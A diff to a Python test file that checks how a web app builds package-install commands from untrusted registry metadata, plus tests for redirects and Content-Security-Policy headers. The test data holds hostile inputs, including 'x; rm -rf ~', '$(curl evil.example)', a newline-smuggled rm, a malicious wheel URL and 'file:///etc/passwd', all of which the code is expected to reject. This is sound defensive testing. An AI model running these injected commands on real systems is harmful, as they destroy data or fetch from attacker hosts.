@@ -83,11 +83,19 @@ def test_routes(path: str, route: WebRoute | None) -> None:
           "registryBaseUrl": "https://art.example.com/cargo/"},
          "cargo install mcp-x --version 0.3.0 --index sparse+https://art.example.com/cargo/"),
         ({"registryType": "mcpb", "identifier": "https://art.example.com/r/x.mcpb"},
-         "curl -fLO https://art.example.com/r/x.mcpb"),
+         "curl --proto =http,https -g -fLO https://art.example.com/r/x.mcpb"),
         # Fields come from strangers: quoted for the shell, or no command at all.
-        ({"registryType": "npm", "identifier": "x; rm -rf ~"}, "npx -y 'x; rm -rf ~'"),
-        ({"registryType": "npm", "identifier": "$(curl evil.example)"},
-         "npx -y '$(curl evil.example)'"),
+        ({"registryType": "npm", "identifier": "x; rm -rf ~"}, None),
+        ({"registryType": "npm", "identifier": "$(curl evil.example)"}, None),
+        ({"registryType": "npm", "identifier": "x", "version": "npm:evil@1"}, None),
+        ({"registryType": "npm", "identifier": "x", "version": "latest"}, None),
+        ({"registryType": "pypi", "identifier": "pkg @ https://evil.example/x.whl"}, None),
+        ({"registryType": "npm", "identifier": "x\u202eyz"}, None),  # a bidi override
+        ({"registryType": "oci", "identifier": "x", "registryBaseUrl": "//-v"}, None),
+        ({"registryType": "oci", "identifier": "acme/tool", "version": "1.2"},
+         "docker run -i --rm acme/tool:1.2"),  # pinned, not :latest
+        ({"registryType": "mcpb", "identifier": "file:///etc/passwd"}, None),
+        ({"registryType": "npm", "identifier": "x", "registryBaseUrl": "ftp://m.example/"}, None),
         ({"registryType": "npm", "identifier": "--registry=https://evil.example/"}, None),
         ({"registryType": "pypi", "identifier": "ok", "registryBaseUrl": "-x"}, None),
         ({"registryType": "npm", "identifier": "a\nrm -rf ~"}, None),
@@ -151,6 +159,8 @@ async def test_a_view_page_shows_what_the_view_serves(client: Any) -> None:
     redirect = await client.get("/views/payments", allow_redirects=False)
     assert redirect.status == 308
     assert redirect.headers["Location"] == "/views/payments/"
+    searched = await client.get("/views/payments?q=weather", allow_redirects=False)
+    assert searched.headers["Location"] == "/views/payments/?q=weather"
     await page(client, "/views/nope/", 404)
 
 
@@ -199,6 +209,7 @@ async def test_assets_have_no_inline_code_to_allow(client: Any) -> None:
     for name in ("style.css", "catalog.js", "admin.js"):
         response = await client.get(f"/_ui/{name}")
         assert response.status == 200
+        assert response.headers["Content-Security-Policy"] == CSP
         etag = response.headers["ETag"]
         again = await client.get(f"/_ui/{name}", headers={"If-None-Match": etag})
         assert again.status == 304
